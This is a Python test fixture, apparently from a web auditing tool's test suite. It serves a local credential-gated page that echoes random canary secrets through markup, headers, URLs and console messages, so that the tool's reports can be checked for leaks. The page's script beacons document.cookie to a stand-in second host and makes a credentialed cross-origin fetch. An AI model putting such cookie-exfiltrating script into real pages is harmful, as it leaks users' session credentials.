"""Site that needs credentials and repeats them all.

They are in markup, headers, URLs, cookies and console messages.
"""

from __future__ import annotations

import json
import secrets
from base64 import b64encode
from urllib.parse import quote

from tests.targets.server import Answer, Request, Site

OTHER = "127.0.0.2"


def random_core() -> str:
    """Return a random string that no text has by chance.

    Even its parts are unlikely to occur in a text.
    """
    return f"q{secrets.token_hex(7)}"


class Canaries:
    """Random secrets for every kind of credential.

    They contain characters that encodings change.
    """

    def __init__(self) -> None:
        self.cores = [random_core() for _ in range(7)]
        a, b, c, d, e, f, g = self.cores
        self.key, self.cookie, self.username, self.password = f'{a},{b};"{c}"&<x>', f"{d}/{e}+x=", f"{f}", f"{g} ü%&;"
        self.request = {
            "headers": {"X-Key": self.key},
            "cookies": {"sid": self.cookie},
            "basic_auth": {"username": self.username, "password": self.password},
        }
        self.basic = b64encode(f"{self.username}:{self.password}".encode()).decode()

    def found_in(self, text: str | bytes, *, least: int = 8) -> list[str]:
        """Return the secrets in the text.

        The first or last `least` characters of a secret are enough.
        """
        text = text.decode("latin-1") if isinstance(text, bytes) else text
        lower = text.lower()
        encoded_secrets = [
            b64encode(secret.encode()).decode()[:-4] for secret in (self.key, self.cookie, self.password)
        ]
        pieces = {piece for core in self.cores for piece in (core[:least], core[-least:])}
        return [part for part in (*pieces, *(part.lower() for part in (*encoded_secrets, self.basic))) if part in lower]


def page_that_repeats_everything(canaries: Canaries, other: str) -> str:
    key, cookie, both = quote(canaries.key), quote(canaries.cookie), canaries.basic
    return f"""<!doctype html><html lang="en"><head>
<title>Key {canaries.key.replace("<x>", "&lt;x&gt;")} {canaries.cookie}</title>
<meta name="description" content="{canaries.password} {canaries.username} {both}">
<meta property="og:image" content="/og.png?key={key}"><meta property="og:url" content="/?sid={cookie}">
<link rel="canonical" href="/?token={key}"><link rel="alternate" hreflang="{canaries.username}" href="/de?key={key}">
<link rel="stylesheet" href="/s.css?key={key}&amp;sid={cookie}"><script src="/jquery-1.0.js?{both}"></script>
<link rel="stylesheet" href="{other}/s.css"><script src="{other}/x.js"></script>
<script type="application/ld+json">{{"@type": "Product", "sku": "{canaries.username}", "bad": {canaries.password} }}
</script></head>
<body id="{canaries.username}" onclick="{canaries.username}"><h1>{canaries.username}</h1>
<h4 id="{canaries.cookie}">{canaries.cookie}</h4>
<form action="http://{OTHER}/{key}" id="{canaries.username}">
<input name="password" type="password" value="{canaries.username}">
<input name="{canaries.username}" style="color:#eee;background:#fff" placeholder="{canaries.cookie}"></form>
<a href="http://{OTHER}:9/{key}" target="_blank">{canaries.username}</a> <a href="/gone?sid={cookie}">here</a>
<p style="color:#ddd;background:#fff">{canaries.password} {"x" * 100} {both} {canaries.cookie}</p>
<img src="/broken.png?auth={both}"><img src="{other}/image.png"><img src="/away">
<img src="/i.png?{key}" alt="{canaries.cookie}">
<iframe src="{other}/frame"></iframe><div role="{canaries.username}" aria-label="{canaries.cookie}" tabindex="5">x</div>
<!-- {canaries.key} --><script>
console.error({json.dumps(canaries.key)}, {json.dumps(canaries.cookie)});
document.cookie = "echo={canaries.username}";
navigator.sendBeacon("{other}/beacon", document.cookie.includes("sid=") ? document.cookie : "none");
fetch("{other}/fetch", {{mode: "no-cors", credentials: "include"}});
fetch("/away", {{mode: "no-cors"}});
fetch("/api?key={key}");
setTimeout(() => {{ throw new Error({json.dumps(canaries.password)}); }});
</script></body></html>"""


def site_that_repeats_everything(canaries: Canaries, site: Site, other: Site) -> None:
    page = page_that_repeats_everything(canaries, other.url)
    headers = [
        ("Set-Cookie", f"sid={canaries.cookie}; Path=/"),
        ("Set-Cookie", f"{canaries.username}={canaries.username}"),
        (
            "Content-Security-Policy",
            f"script-src 'nonce-{canaries.username}' 'unsafe-inline' {canaries.username}.example",
        ),
        ("Server", f"nginx/1.0 {canaries.username}"),
        ("X-Powered-By", canaries.key),
        ("Access-Control-Allow-Origin", "*"),
        ("Content-Type", "text/html"),
    ]

    def serve_page(request: Request) -> Answer:
        if request.header("X-Key") != canaries.key or request.header("Authorization") != f"Basic {canaries.basic}":
            return Answer("Who are you?", status=401, headers={"WWW-Authenticate": "Basic"})
        return Answer(page.encode(), headers=headers)

    site.routes |= {
        "/": Answer.redirect(f"/in?sid={quote(canaries.cookie)}"),
        "/in": serve_page,
        "/away": Answer.redirect(f"{other.url}/redirected"),
        "/robots.txt": Answer(
            f"Disallow {canaries.key}\nSitemap: {canaries.username}", headers={"Content-Type": "text/plain"}
        ),
        "/s.css": Answer(
            f".{canaries.username} {{ color: red }}",
            headers={"Content-Type": "text/css", "Cache-Control": f"{canaries.username}"},
        ),
        "/jquery-1.0.js": Answer(f"/* {canaries.key} */" * 200, headers={"Content-Type": "text/javascript"}),
        "/i.png": serve_page,
    }
